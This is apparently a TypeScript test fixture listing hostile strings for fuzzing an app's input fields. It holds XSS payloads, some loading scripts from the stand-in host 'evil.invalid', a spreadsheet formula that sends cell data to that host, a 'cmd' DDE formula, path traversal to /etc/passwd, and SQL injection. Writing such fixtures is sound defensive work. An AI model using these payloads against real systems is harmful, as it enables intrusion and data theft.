/** Something that people, files or attackers put into fields. */
export interface HostileString {
  /** What it tries. */
  tries: string;
  text: string;
}

/** What every attempt to run something would do: set this property of the window. */
export const PWNED = '__pwned';

const RUN = `window.${PWNED}=1`;

/** Where every attempt to reach out would go; nothing may ever ask for it. */
export const EVIL_HOST = 'evil.invalid';

const of = (group: string, texts: readonly string[]): HostileString[] =>
  texts.map((text, index) => ({ tries: `${group} ${index + 1}`, text }));

const MARKUP = [
  `<script>${RUN}</script>`,
  `"><script src=//${EVIL_HOST}/x.js></script>`,
  `</title></textarea></script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><circle r="9"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src onerror="${RUN}">`,
  `<iframe srcdoc="<script>parent.${PWNED}=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">press</a>`,
  `<style>*{display:none}@import url(//${EVIL_HOST}/x.css)</style>`,
  `<form action=//${EVIL_HOST}><input name=password autofocus onfocus="${RUN}">`,
  `<base href="//${EVIL_HOST}/"><meta http-equiv=refresh content="0;url=//${EVIL_HOST}">`,
  `<p id=root class=MuiDialog-root style="position:fixed;inset:0">over</p>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  '&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &#x202e; &nbsp;',
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\u0000script:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `vbscript:msgbox("${PWNED}")`,
  `//${EVIL_HOST}/picture.png`,
  `https:\\\\${EVIL_HOST}\\x`,
  'file:///etc/passwd',
  'blob:https://example.com/1',
];

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.invalid?"&A1,"press")',
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  "  =cmd|' /C calc'!A0",
  '＝1+1',
  "'=1+1",
  '"=1+1',
  'a;=1+1,"=2+2"',
];

const LETTERS = [
  'abc\u202edrowssap\u202c def',
  '\u2066left\u2067right\u2069\u2069',
  'zero\u200bwidth\u200d\u2060\ufeffjoiners',
  'مرحبا بالعالم — שלום עולם',
  `Z${'\u0301\u0316\u0489'.repeat(40)}algo`,
  '👩‍👩‍👧‍👦 👨🏿‍🚒 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇦🇺',
  '日本語の長い商品名は空白なしで続きますから折り返しが必要です',
  'ﷺ﷽𒐫⸻',
  'Ａ ﬁ ² ½ ẞ İı',
];

const PLACEHOLDERS = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what somebody may type
  '${7*7} #{7*7} {{7*7}} <%= 7*7 %>',
  '%{name} %{smart_count} %s %d %n %%',
  'one |||| many',
  'ra.action.delete',
  '{0} {count, plural, one {#} other {#}}',
  '$& $1 $$ \\1',
];

const NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  '[object Object]',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'a/b?c#d&e=f%2e%2e%2f',
  'CON.txt:stream',
  "Robert'); DROP TABLE products;--",
];

/** Texts that the browser's own fields would not pass on; files, interfaces and scripts do. */
const BYTES = [
  'nul\u0000byte',
  'bell\u0007 escape\u001b[31m del\u007f c1\u0085',
  'tab\tbetween',
  'line\r\nbreak',
  'line\u2028separator',
  '\ttab in front',
  '\rreturn in front',
];

/** Half of a character: there is no UTF-8 for it, so it can only be refused. */
export const HALF_CHARACTER = 'half \ud83d of an emoji';

/** Nothing to see. */
export const INVISIBLE = '\u200b\u200d\u2060';

/** Long, but within what a title can be. */
export const LONG_WORD = 'W'.repeat(199);

/** One letter, a megabyte of it. */
export const MEGABYTE = 'W'.repeat(1 << 20);

/** More than any field takes, and little enough to be drawn at many widths. */
export const OVERLONG = 'W'.repeat(20_000);

/** One of each kind, short enough for any field with a name in it. */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  ...of('markup', MARKUP),
  ...of('address', ADDRESSES),
  ...of('formula', FORMULAS),
  ...of('letters', LETTERS),
  ...of('placeholder', PLACEHOLDERS),
  ...of('name', NAMES),
  ...of('bytes', BYTES),
  { tries: 'long word', text: LONG_WORD },
  { tries: 'half character', text: HALF_CHARACTER },
  { tries: 'invisible', text: INVISIBLE },
  { tries: 'a megabyte', text: MEGABYTE },
];
